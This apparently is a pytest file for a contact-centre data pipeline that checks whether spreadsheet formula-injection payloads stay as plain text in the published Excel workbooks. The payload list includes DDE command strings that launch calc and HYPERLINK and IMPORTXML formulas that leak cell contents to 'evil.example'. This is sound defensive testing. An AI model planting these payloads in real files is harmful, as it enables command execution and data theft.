"""Text that a spreadsheet would run stays text, from the extracts to the pack and the worklists."""

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from csip_pipeline import cli_months, cli_runs, promises
from csip_pipeline.extract.registry import FEEDS
from csip_pipeline.publish.workbook_lint import lint

pytestmark = pytest.mark.slow
OCTOBER, CYCLE = dt.date(2026, 10, 1), "2026-Q4"
TODAY = dt.date(2026, 11, 5)
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "'=1+1",
    '"=1+1',
    ';=1+1;"',
    "{=1+1}",
    "=cmd|'/c calc'!A1",
    '=DDE("cmd";"/c calc";"x")',
    '=HYPERLINK("http://evil.example?"&A1,"Report")',
    '=IMPORTXML("http://evil.example","//a")',
    "http://evil.example",
    "https://evil.example/?leak=1",
    "ftp://evil.example",
    "file:///c:/windows",
    "mailto:someone%40evil.example",
    "internal:Notes!A1",
    "external:\\\\evil\\share\\x.xlsx",
    "<f>1+1</f>",
    "]]>&amp;<c><f>1</f></c>",
]
SHOWN = sorted({payload.strip() for payload in PAYLOADS if not re.search(r"file:|\\\\", payload)})
"""The titles of queues: a pack that shows a path is refused, and space around a text is dropped."""
FILES = {
    "telephony": "=cmd|'!A1.csv",
    "web_forms": "@SUM(1,1).csv",
    "web_chats": "+1+1.csv",
    "social": '-HYPERLINK("x").csv',
}
"""Each feed's file, whose name the pack prints."""
KNOWN = {
    "telephony": {"line": "101", "leg": "1", "outcome": "answered", "wait_seconds": "5000"},
    "web_forms": {"channel": None},
    "web_chats": {"outcome": "answered"},
    "social": {"direction": "in"},
}
"""What is not free text: a word that the promise knows, or a number. Nothing where it may be."""
MOMENTS = {
    "arrived_at": "05 09:00",
    "queued_at": "05 09:00",
    "answered_at": "05 11:00",
    "ended_at": "05 11:05",
    "submitted_at": "05 09:00",
    "first_response_at": "12 09:00",
    "requested_at": "05 09:00",
    "joined_at": "05 11:00",
    "sent_at": "05 09:00",
}
"""Long enough after each other to miss every promise, so that everybody is on a worklist."""


def columns_of(feed):
    """Every column of a feed with what stands in it: None is the payload itself."""
    given = {}
    for name, kind in promises.duckdb_columns(FEEDS[feed].delivered).items():
        if name in KNOWN[feed]:
            if KNOWN[feed][name] is not None:
                given[name] = KNOWN[feed][name]
        elif kind == "TIMESTAMPTZ":
            if name in MOMENTS:
                given[name] = f"2026-10-{MOMENTS[name]}"
        elif kind == "VARCHAR":
            given[name] = None
    return given


def source(feed):
    """A source that maps every column to one of the same name."""
    moments = [name for name in columns_of(feed) if name in MOMENTS]
    mapped = (
        f'{name} = {{ column = "{name}"'
        + (', datetime = "%Y-%m-%d %H:%M"' if name in moments else "")
        + " }"
        for name in columns_of(feed)
    )
    lines = [f'name = "payloads of {feed}"', f'feed = "{feed}"', 'format = "delimited"']
    lines += [f'files = "{feed}/{FILES[feed][:4]}*"', "[source.columns]", *mapped]
    return "\n".join(["", "[[source]]", *lines, ""])


def poison(folder):
    """Deliver every payload in every text column of every feed, in files called like payloads."""
    declared = folder.reference / "feeds.toml"
    more = "".join(map(source, FILES))
    declared.write_text(declared.read_text(encoding="utf-8") + more, encoding="utf-8")
    for feed, name in FILES.items():
        columns = columns_of(feed)
        written = io.StringIO()
        table = csv.writer(written)
        table.writerow(columns)
        for payload in PAYLOADS:
            email = f"{payload.strip()}@evil.example"
            row = {"email": email} if "email" in columns else {}
            table.writerow([row.get(key, given or payload) for key, given in columns.items()])
        (folder.extracts / feed / name).write_text(written.getvalue(), encoding="utf-8")
    with (folder.reference / "queues.csv").open("a", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([payload, "101", payload] for payload in SHOWN)
    with (folder.reference / "contact_reasons.csv").open("a", encoding="utf-8", newline="") as file:
        kept = {payload.strip() for payload in PAYLOADS}
        csv.writer(file).writerows(
            [one, one, "other_agency", "no", None, None] for one in sorted(kept)
        )


@pytest.fixture(scope="module")
def published(demo, tmp_path_factory):
    """The demo's October again, with payloads in it, run and published."""
    folder = demo.copy(tmp_path_factory.mktemp("poisoned") / "data")
    poison(folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CSIP_DATA", str(folder.data))
        cli_runs._job.cache_clear()  # noqa: SLF001 - a process of the command has one folder
        (outcome,) = cli_months.run(folder, [OCTOBER], total=1, today=lambda _month: TODAY).values()
        assert list(outcome.refusals) == []
        assert cli_months.publish(folder, CYCLE)["is_new"]
    return folder


def workbooks(folder):
    """Those that we wrote: a list that came back is the contact team's own."""
    found = folder.data.rglob("*.xlsx")
    return sorted(path for path in found if folder.extracts not in path.parents)


def texts(path):
    """Every text in a workbook."""
    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_the_payloads_came_through_to_the_workbooks(published):
    """Else the tests below would hold of nothing."""
    written = set().union(*map(texts, workbooks(published)))

    assert written >= set(FILES.values())
    assert written >= set(SHOWN)
    called = set().union(*map(texts, published.worklists.glob("*.xlsx")))
    assert any(text.startswith("=") and text.endswith("@evil.example") for text in called)


def test_no_cell_of_any_workbook_is_a_formula_and_no_link_leads_out_of_it(published):
    for path in workbooks(published):
        with zipfile.ZipFile(path) as package:
            parts = {
                name: package.read(name).decode("utf-8", "replace") for name in package.namelist()
            }
        sheets = {
            name: text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")
        }
        assert sheets
        for name, text in sheets.items():
            assert not re.search(r"<f[\s>/]", text), (path.name, name)
            for link in re.findall(r"<hyperlink [^>]*>", text):
                assert "location=" in link, (path.name, name)
        for name, text in parts.items():
            assert "TargetMode" not in text, (path.name, name)
            assert "ddeLink" not in text, (path.name, name)
            assert not name.startswith(("xl/externalLinks", "xl/connections", "xl/vba")), path.name


def test_every_workbook_still_keeps_every_rule(published):
    for path in workbooks(published):
        is_worklist = path.parent == published.worklists
        broken = lint(path, is_worklist=is_worklist)
        # An address that looks like a path is the person's own: no path of ours is given away.
        assert [rule for rule in broken if not (is_worklist and "absolute path" in rule)] == []
